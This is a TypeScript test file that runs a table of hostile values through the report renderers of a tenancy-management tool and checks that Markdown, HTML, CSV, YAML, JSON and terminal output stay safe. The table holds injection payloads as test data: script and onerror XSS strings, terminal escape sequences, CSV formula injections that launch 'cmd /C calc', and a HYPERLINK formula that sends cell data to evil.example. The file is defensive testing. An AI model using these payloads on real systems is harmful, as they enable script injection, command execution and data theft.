/**
 * Hostile names through every renderer (issue 19, item 8). Each value is put into the declared
 * state (partner id, account name, address, city, tag value, user first/last/display name, order
 * tracking numbers) AND the live state (the same fields as CloudLink has them, an undeclared
 * user's e-mail local part, order POs, undeclared and orphaned live accounts), then the plan and
 * drift report are computed by the real pure engine and rendered in every format. Each output is
 * checked for its medium by parsing it back: Markdown with a CommonMark parser (markdown-it) and the
 * HTML it renders to with an HTML parser (parse5), the HTML report with parse5, JUnit with
 * fast-xml-parser, CSV with csv-parse, YAML with the yaml library (1.2 and 1.1), JSON with JSON.parse.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import MarkdownIt from 'markdown-it';
import { parse as parseHtml } from 'parse5';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { diffTenancy } from '../../provider/engine/plan/diff.js';
import { buildDriftReport } from '../../provider/engine/drift/report.js';
import type { Plan } from '../../provider/engine/types.js';
import type { DriftReport } from '../../provider/engine/drift/types.js';
import type { Account, Order } from '../../provider/model/live.js';
import { renderPlan } from '../../provider/cli/commands/plan.js';
import { DRIFT_FORMATS } from '../../provider/cli/commands/drift.js';
import { changesByAccount, summaryLine } from '../../provider/report/plan-text.js';
import { driftSummaryLine } from '../../provider/report/drift-text.js';
import { undeclaredAccountLines } from '../../provider/report/drift-lines.js';
import { renderDriftMarkdown as renderDriftMarkdownLimited } from '../../provider/report/drift-markdown.js';
import { displayWidth, escapeTerminalValue, hasInvisible } from '../../provider/report/escape-terminal.js';
import { neutralizeFormula } from '../../provider/report/csv.js';
import { markdownCode, markdownFence, markdownText, MARKDOWN_VALUE_LIMIT } from '../../provider/report/escape-markdown.js';
import { orderRows, type OrderRow } from '../../provider/report/orders-rows.js';
import { renderOrdersCsv, renderOrdersJson } from '../../provider/report/orders-export.js';
import { renderOrdersText } from '../../provider/report/orders-text.js';
import { renderAccountYaml } from '../../provider/import/render.js';
import { desiredAccount, desiredUser, integration, liveAccount, liveUser, NOW, order, snapshot, tenancy, toLiveAccount } from '../helpers/build.js';

const LONG = 'L'.repeat(70_000);

/** The hostile values, each run through every renderer. */
const HOSTILE: [label: string, value: string][] = [
  ['fence + comment hiding the next section', 'Evil Corp\n```\n\n<!--\n'],
  ['fake summary line', 'x\n\n**Plan: 0 to create, 0 to update, 0 to delete.**\n'],
  ['fake plain summary line', 'x\nPlan: 0 to create, 0 to update, 0 to delete.'],
  ['team mention', '@org/team'],
  ['user mention', 'hi @octocat and @everyone'],
  ['javascript link', '[x](javascript:alert(1))'],
  ['reference link', '[x][1]\n\n[1]: javascript:alert(1)'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['closing details', '</details>'],
  ['comment end', '-->'],
  ['comment start', '<!--'],
  ['script', '<script>alert(1)</script>'],
  ['pipes', '| pipes | in | table |'],
  ['heading after newline', 'Acme\n# heading'],
  ['CRLF', 'a\r\nb'],
  ['erase lines above the prompt', 'Main St 1\u001b[8A\u001b[J'],
  ['OSC title', '\u001b]0;owned\u0007'],
  ['BEL', 'bell\u0007'],
  ['NUL', 'nul\u0000x'],
  ['DEL', 'del\u007f'],
  ['C1 CSI 0x9b', 'csi\u009b31m red'],
  ['C1 NEL', 'a\u0085b'],
  ['bidi override RLO', 'user\u202eexe.txt\u202c'],
  ['bidi isolates', '\u2066isolate\u2069 \u2067x\u2068y\u2069'],
  ['bidi embeddings LRE RLE', '\u202aa\u202bb\u202c'],
  ['zero-width characters', 'zero\u200bwidth\u200cjoin\u200d\u2060\ufeff'],
  ['line and paragraph separators', 'line\u2028para\u2029end'],
  ['unicode tag characters', 'tag\u{e0041}\u{e0042}\u{e007f}'],
  ['backtick run longer than any fence', `${'`'.repeat(20)}x${'`'.repeat(20)}`],
  ['code span break-out', 'x` <img src=x onerror=alert(1)> `y'],
  ['tilde fence', '~~~\ncode'],
  ['HYPERLINK formula', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ['plus formula', '+1+cmd|\' /C calc\'!A0'],
  ['minus formula', '-2+3'],
  ['at formula', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['tab formula', '\t=1+1'],
  ['CR formula', '\r=1+1'],
  ['formula after a comma', 'a,=1+1'],
  ['formula after a semicolon', 'a;=1+1'],
  ['full-width equals', '\uff1d1+1'],
  ['quotes', '"double" \'single\''],
  ['emoji and wide characters', '😀 👨‍👩‍👧 漢字テスト ＡＢＣ'],
  ['very long value', LONG],
  ['YAML key injection', 'name\nkey: injected\n- item'],
  ['YAML comment', '# not a comment'],
  ['YAML anchors and tags', '&a *a !!binary | >'],
  ['YAML ambiguous', 'yes'],
  ['YAML document markers', '---\n...'],
  ['autolink', 'https://evil.example/phish and www.evil.example'],
  ['emoji shortcode and issue ref', ':smile: #123 GH-1'],
  ['backslashes', '\\ \\` \\| \\\\'],
  ['entities', '&lt;b&gt; &amp; &#64;'],
  ['emphasis', '*bold* _it_ ~~strike~~'],
  ['quote and list markers', '> quote\n- item\n1. one'],
  ['Actions expression', '${{ secrets.TOKEN }}'],
  ['surrounding spaces', '  spaced  '],
  ['lone surrogate', 'bad\ud800half'],
];

interface World {
  value: string;
  plan: Plan;
  drift: DriftReport;
  rows: OrderRow[];
  expiring: OrderRow[];
  liveAccount: Account;
  liveOrders: Order[];
}

/** Declared and live state carrying the value everywhere a customer or a file can put it. */
function world(v: string): World {
  const declaredUser = desiredUser('u1@acme.example', { firstName: v, lastName: `${v}-last`, name: `${v} display` });
  const hostile = desiredAccount('hostile', {
    name: v,
    address: v,
    city: v,
    tags: { note: v },
    orders: [{ trackingNumber: v }, { trackingNumber: `${v}#missing` }],
    users: { policy: 'authoritative', items: [declaredUser] },
  });
  const other = desiredAccount('other', { name: 'Other Inc', users: { policy: 'authoritative', items: [] } });
  const fresh = desiredAccount('fresh', { name: v, address: v, city: v, accountCreation: 'console' });
  const declared = { ...tenancy(hostile, other, fresh), partner: { id: v } };

  const live = liveAccount(hostile, 'A1', { name: `${v} (live)`, address: `${v} (live)`, city: `${v} (live)`, tags: { note: `${v} (live)` } });
  const otherLive = liveAccount(other, 'B1');
  const liveUsers = [
    liveUser('A1', declaredUser, { firstName: `${v} (live)`, lastName: `${v} (live last)` }),
    liveUser('A1', desiredUser(`${v}@evil.example`, { firstName: v, lastName: v, name: v }), { userId: 'u-evil', verified: false, createdOn: '2026-10-01T00:00:00.000Z' }),
  ];
  const otherUsers = [1, 2, 3, 4, 5].map((n) => liveUser('B1', desiredUser(`victim${n}@other.example`)));
  const orders = [
    order(v, 10, { sapOrderId: v, resellerPo: v, customerPo: v }),
    order(`${v}-2`, 5, { assignedAccountId: 'A1', resellerPo: v, customerPo: v, expiresOn: '2026-12-05T00:00:00.000Z' }),
  ];
  const snap = snapshot(
    [
      { account: live, integrations: [integration()], users: liveUsers },
      { account: otherLive, integrations: [integration()], users: otherUsers },
    ],
    orders,
  );
  const stray: Account = { accountId: `X-${v.slice(0, 40)}`, name: v, tags: {} };
  const orphan: Account = { accountId: 'X-orphan', name: v, identityKey: v, tags: {} };
  snap.allAccounts = [live, otherLive, stray, orphan];

  const plan = diffTenancy(declared, snap, { now: NOW, maxDeletes: 100 });
  const drift = buildDriftReport(declared, snap, { now: NOW, plan, allAccounts: true });
  const facts = {
    orders,
    accountNames: new Map([['A1', live.name]]),
    accountKeys: new Map([['A1', 'hostile']]),
    subscriptions: [],
    licensesHeld: new Map([['A1', 3]]),
    now: NOW,
  };
  return { value: v, plan, drift, rows: orderRows(facts), expiring: orderRows(facts, { expiringDays: 30 }), liveAccount: { ...live, tags: { note: v } }, liveOrders: orders };
}

/** Terminal text: no control byte but LF, no bidi, zero-width or other invisible character raw. */
function expectTerminalSafe(text: string): void {
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  expect(hasInvisible(text.replace(/\n/g, ''))).toBe(false);
}

const md = new MarkdownIt({ html: true, linkify: true });

/** The HTML elements GitHub-like rendering of our comments may produce; everything else would come from data. */
const MARKDOWN_ELEMENTS = new Set(['html', 'head', 'body', 'h3', 'p', 'strong', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'details', 'summary', 'blockquote', 'sub', 'ul', 'li', 'br']);
/** Our own raw HTML in the comments: the marker, the collapsible section, the footer. */
const OWN_HTML = [/^<!-- cloudlink-tenancy:(plan|drift) -->$/, /^<details><summary><code>[^<>\n]*<\/code>: \d+ (changes?|findings?)<\/summary>$/, /^<\/details>$/, /^<\/?sub>$/];

interface HtmlNode {
  nodeName: string;
  tagName?: string;
  value?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: HtmlNode[];
  content?: HtmlNode;
}

function walk(node: HtmlNode, visit: (n: HtmlNode, inCode: boolean) => void, inCode = false): void {
  visit(node, inCode);
  const code = inCode || node.tagName === 'code' || node.tagName === 'pre';
  for (const c of node.childNodes ?? []) walk(c, visit, code);
  if (node.content) walk(node.content, visit, code);
}

function textOf(node: HtmlNode): string {
  let out = '';
  walk(node, (n) => {
    if (n.nodeName === '#text') out += n.value ?? '';
  });
  return out;
}

function elements(root: HtmlNode, tag: string): HtmlNode[] {
  const out: HtmlNode[] = [];
  walk(root, (n) => {
    if (n.tagName === tag) out.push(n);
  });
  return out;
}

/**
 * A Markdown comment, parsed as CommonMark (+ tables, linkify) and the HTML it renders to:
 * only our own raw HTML, no element, link, image or mention from data, one summary line.
 */
function expectMarkdownSafe(text: string, summary: string): { root: HtmlNode; fences: number } {
  const tokens = md.parse(text, {});
  const fences = tokens.filter((t) => t.type === 'fence');
  for (const t of tokens) {
    if (t.type === 'html_block') expect(OWN_HTML.some((re) => re.test(t.content.trim().split('\n')[0] ?? '')) && t.content.trim().split('\n').length === 1, t.content).toBe(true);
    for (const c of t.children ?? []) {
      expect(['link_open', 'image'], `${c.type} ${c.content}`).not.toContain(c.type);
      if (c.type === 'html_inline') expect(OWN_HTML.some((re) => re.test(c.content)), c.content).toBe(true);
    }
  }
  expect(tokens.filter((t) => t.type === 'heading_open').map((t) => t.tag)).toEqual(['h3']);
  const root = parseHtml(md.render(text)) as unknown as HtmlNode;
  walk(root, (n, inCode) => {
    if (n.tagName) {
      expect(MARKDOWN_ELEMENTS.has(n.tagName), n.tagName).toBe(true);
      for (const a of n.attrs ?? []) expect(['style', 'class'], a.name).toContain(a.name);
    }
    // A mention (or an e-mail autolink) needs a word character right after `@`, outside code.
    if (n.nodeName === '#text' && !inCode) expect(n.value ?? '').not.toMatch(/@[A-Za-z0-9_]/);
  });
  const bold = elements(root, 'strong').map(textOf).filter((s) => /^(Plan:|No changes|Drift:|No drift)/.test(s));
  expect(bold).toEqual([summary]);
  expect(text.split('\n').filter((l) => /^\*\*(Plan:|No changes|Drift:|No drift)/.test(l))).toEqual([`**${summary}**`]);
  return { root, fences: fences.length };
}

/** The number of sections the Markdown note says it left out (0 without a note). */
function omittedSections(text: string): number {
  return Number(/changes in (\d+) accounts are not shown/.exec(text)?.[1] ?? 0);
}

describe.each(HOSTILE)('hostile value: %s', (_label, value) => {
  const w = world(value);
  const shown = escapeTerminalValue(value);

  it('is in the plan and the drift report (the engine carried it)', () => {
    expect(w.plan.changes.some((c) => c.kind === 'account' && (c.after as { name?: string } | null)?.name === value)).toBe(true);
    expect(w.drift.accounts.find((a) => a.key === 'hostile')?.undeclared.map((u) => u.label)).toContain(`${value}@evil.example`);
  });

  it('Markdown escapers: a code span, a fence and escaped prose each render as exactly the (visible) value', () => {
    const visible = [...shown].length > MARKDOWN_VALUE_LIMIT ? `${[...shown].slice(0, MARKDOWN_VALUE_LIMIT).join('')}…` : shown;
    const span = md.parseInline(markdownCode(value), {})[0]?.children ?? [];
    expect(span.map((t) => t.type)).toEqual(['code_inline']);
    expect(span[0]?.content).toBe(visible);
    const cell = md.parse(`| a |\n|---|\n| ${markdownCode(value, { table: true })} |\n`, {}).filter((t) => t.type === 'inline').map((t) => t.children?.map((c) => `${c.type}:${c.content}`));
    expect(cell).toEqual([['text:a'], [`code_inline:${visible}`]]);
    const block = md.parse(`${markdownFence([value, 'second line'])}\n\nafter\n`, {});
    expect(block.map((t) => t.type)).toEqual(['fence', 'paragraph_open', 'inline', 'paragraph_close']);
    expect(block[0]?.content).toBe(`${shown}\nsecond line\n`);
    const prose = md.parseInline(markdownText(value), {})[0]?.children ?? [];
    expect(prose.every((t) => t.type === 'text' || t.type === 'text_special'), prose.map((t) => t.type).join()).toBe(true);
    expect(prose.map((t) => t.content).join('').replace(/@\u200b/g, '@')).toBe(shown);
  });

  it('text plan: one line per item, no control or invisible character, the real summary once', () => {
    const text = renderPlan(w.plan, 'text');
    expectTerminalSafe(text);
    expect(text).toContain(shown.slice(0, 200));
    const lines = text.split('\n');
    expect(lines.filter((l) => /^(Plan:|No changes)/.test(l))).toEqual([summaryLine(w.plan)]);
    const other = lines.indexOf('account other:');
    expect(other).toBeGreaterThan(0);
    expect(lines.slice(other + 1).filter((l) => l.startsWith('  - account.other.user'))).toHaveLength(5);
  });

  it('Markdown plan: no break-out, every section present or counted as left out', () => {
    const text = renderPlan(w.plan, 'markdown');
    const { root, fences } = expectMarkdownSafe(text, summaryLine(w.plan));
    const sections = elements(root, 'details');
    const withChanges = [...changesByAccount(w.plan).values()].filter((c) => c.length > 0).length;
    expect(fences).toBe(sections.length);
    expect(sections.length + omittedSections(text)).toBe(withChanges);
    const other = sections.find((d) => textOf(elements(d, 'summary')[0] ?? d).startsWith('other:'));
    expect(other, 'the other account\'s section').toBeDefined();
    expect(textOf(elements(other ?? root, 'pre')[0] ?? root).split('\n').filter((l) => l.startsWith('- account.other.user'))).toHaveLength(5);
    expect(text.length).toBeLessThanOrEqual(65_536);
  });

  it('JSON plan: valid JSON with the exact values, nothing raw for a terminal', () => {
    const json = renderPlan(w.plan, 'json');
    expectTerminalSafe(json);
    const plan = JSON.parse(json) as Plan;
    expect(plan.partnerId).toBe(value);
    expect(plan).toEqual(w.plan);
  });

  it('drift text: no control or invisible character, the real summary once', () => {
    const text = DRIFT_FORMATS.text.render(w.drift);
    expectTerminalSafe(text);
    expect(text.split('\n').filter((l) => /^(Drift:|No drift)/.test(l))).toEqual([driftSummaryLine(w.drift)]);
    expect(text).toContain(`undeclared user: ${escapeTerminalValue(`${value}@evil.example`)}`);
  });

  it('drift Markdown: no break-out; live accounts nobody declares listed as escaped items', () => {
    const text = DRIFT_FORMATS.markdown.render(w.drift);
    const { root, fences } = expectMarkdownSafe(text, driftSummaryLine(w.drift));
    expect(fences).toBe(elements(root, 'details').length);
    const notShown = Number(/and (\d+) live accounts nobody declares are not shown/.exec(text)?.[1] ?? 0);
    expect(elements(root, 'li').length + notShown).toBe(undeclaredAccountLines(w.drift).length);
    expect(text.length).toBeLessThanOrEqual(65_536);
  });

  it('drift JSON: valid JSON with the exact values, nothing raw for a terminal', () => {
    const json = DRIFT_FORMATS.json.render(w.drift);
    expectTerminalSafe(json);
    const report = JSON.parse(json) as DriftReport;
    expect(report).toEqual(w.drift);
    expect(report.accounts.find((a) => a.key === 'hostile')?.name).toBe(value);
  });

  it('drift HTML: parses to our elements only; values are text, shown escaped', () => {
    const html = DRIFT_FORMATS.html.render(w.drift);
    const root = parseHtml(html) as unknown as HtmlNode;
    const allowed = new Set(['html', 'head', 'body', 'meta', 'title', 'style', 'h1', 'h2', 'p', 'code', 'section', 'div', 'svg', 'text', 'rect', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'br', 'small', 'details', 'summary', 'pre']);
    walk(root, (n) => {
      if (!n.tagName) return;
      expect(allowed.has(n.tagName), n.tagName).toBe(true);
      for (const a of n.attrs ?? []) expect(a.name, a.name).not.toMatch(/^(on|href|src)/);
    });
    const row = elements(root, 'tr').find((r) => r.attrs?.some((a) => a.name === 'data-account' && a.value === 'hostile'));
    expect(textOf(elements(row ?? root, 'small')[0] ?? root)).toBe(shown);
    expect(textOf(elements(row ?? root, 'pre')[0] ?? root)).toContain(`undeclared user: ${escapeTerminalValue(`${value}@evil.example`)}`);
    expectTerminalSafe(html);
  });

  it('drift JUnit: well-formed XML, values escaped', () => {
    const xml = DRIFT_FORMATS.junit.render(w.drift);
    expect(XMLValidator.validate(xml)).toBe(true);
    const doc = new XMLParser({ ignoreAttributes: false, trimValues: false }).parse(xml) as { testsuites: { testsuite: { '@_name': string; testcase: { '@_name': string; failure?: { '#text': string } }[] } } };
    expect(doc.testsuites.testsuite['@_name']).toBe(`drift ${shown}`);
    expect(doc.testsuites.testsuite.testcase.map((t) => t['@_name'])).toEqual(['account hostile', 'account other', 'account fresh']);
    expect(doc.testsuites.testsuite.testcase[0]?.failure?.['#text']).toContain(`undeclared user: ${escapeTerminalValue(`${value}@evil.example`)}`);
    expectTerminalSafe(xml.replace(/\t/g, ''));
  });

  it('orders CSV: every cell is the value, neutralised; no cell starts a formula', () => {
    const csv = renderOrdersCsv(w.rows);
    const rows = parseCsv(csv, { relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(w.rows.length + 1);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0\uff1d]/);
    w.rows.forEach((r, i) => {
      const cells = rows[i + 1] ?? [];
      // A lone surrogate cannot be written as UTF-8: it reads back as U+FFFD.
      const expected = [r.trackingNumber, r.sapOrderId ?? '', r.resellerPo ?? '', r.customerPo ?? '', r.accountKey ?? '', r.accountName ?? ''].map((c) => neutralizeFormula(c).replace(/[\ud800-\udfff]/gu, '\ufffd'));
      expect(cells.slice(0, 6)).toEqual(expected);
    });
    expect(csv.startsWith('"trackingNumber","sapOrderId"')).toBe(true);
  });

  it('orders text: no control or invisible character; JSON: exact values', () => {
    expectTerminalSafe(renderOrdersText(w.rows));
    expectTerminalSafe(renderOrdersText(w.expiring));
    expect(renderOrdersText(w.rows)).toContain(shown.slice(0, 200));
    // Columns stay aligned on a terminal, wide characters (CJK, emoji) counting two columns.
    const [header = '', ...lines] = renderOrdersText(w.rows).split('\n');
    const column = displayWidth(header.slice(0, header.indexOf('Order date')));
    for (const l of lines.slice(0, w.rows.length)) expect(displayWidth(l.slice(0, l.indexOf('2026-01-01')))).toBe(column);
    const json = renderOrdersJson(w.rows, { partnerId: value, generatedAt: NOW.toISOString() });
    expectTerminalSafe(json);
    const doc = JSON.parse(json) as { partnerId: string; orders: OrderRow[] };
    expect(doc.partnerId).toBe(value);
    expect(doc.orders).toEqual(w.rows);
  });

  it('imported YAML: round-trips every value exactly (YAML 1.2 and 1.1), no injected key or comment', () => {
    const imported = { ...toLiveAccount({ account: w.liveAccount, integrations: [integration()], users: [liveUser('A1', desiredUser(`${value}@evil.example`), { firstName: value, lastName: `${value} last`, name: `${value} display` })] }), key: 'hostile', orders: w.liveOrders };
    const text = renderAccountYaml(imported, { partnerId: value, importedAt: NOW, schemaPath: 'schemas/tenancy.schema.json' });
    expect(hasInvisible(text.replace(/\n/g, ''))).toBe(false);
    expect(text.split('\n').filter((l) => /^\s*#/.test(l))).toHaveLength(3);
    for (const version of ['1.2', '1.1'] as const) {
      const doc = parseYaml(text, { version }) as { partner: { id: string }; accounts: Record<string, unknown>[] };
      expect(Object.keys(doc)).toEqual(['apiVersion', 'kind', 'partner', 'accounts']);
      expect(doc.partner).toEqual({ id: value });
      const a = doc.accounts[0] ?? {};
      expect(Object.keys(a)).toEqual(['key', 'name', 'adopt', 'country', 'address', 'city', 'language', 'supportContacts', 'tags', 'integrations', 'orders', 'welcomeEmail', 'users']);
      expect([a.name, a.address, a.city]).toEqual([w.liveAccount.name, w.liveAccount.address, w.liveAccount.city]);
      expect(a.tags).toEqual({ note: value });
      expect(a.orders).toEqual(w.liveOrders.map((o) => ({ trackingNumber: o.trackingNumber })).sort((x, y) => x.trackingNumber.localeCompare(y.trackingNumber)));
      expect((a.users as { items: unknown[] }).items).toEqual([{ email: `${value}@evil.example`.toLowerCase(), firstName: value, lastName: `${value} last`, name: `${value} display`, role: 'User', miteam: false }]);
    }
  });
});

describe('drift Markdown: live accounts nobody declares', () => {
  it('lists the first 50 and says how many more there are; under a small limit it counts what it leaves out', () => {
    const r = world('x').drift;
    const many = { ...r, orphanedAccounts: [], undeclaredAccounts: Array.from({ length: 60 }, (_, i) => ({ accountId: `X${i}`, name: `Stray ${i}` })) };
    const items = elements(parseHtml(md.render(DRIFT_FORMATS.markdown.render(many))) as unknown as HtmlNode, 'li').map(textOf);
    expect(items).toHaveLength(51);
    expect(items[50]).toBe('… and 10 more (the JSON and HTML reports list them all)');
    const cut = renderDriftMarkdownLimited(many, 6_000);
    expect(cut.length).toBeLessThanOrEqual(6_000);
    const shown = (cut.match(/^- /gm) ?? []).length;
    expect(cut).toContain(`and ${60 - shown} live accounts nobody declares are not shown`);
  });
});

describe('the hostile table', () => {
  it('has at least 40 values', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40);
  });
});
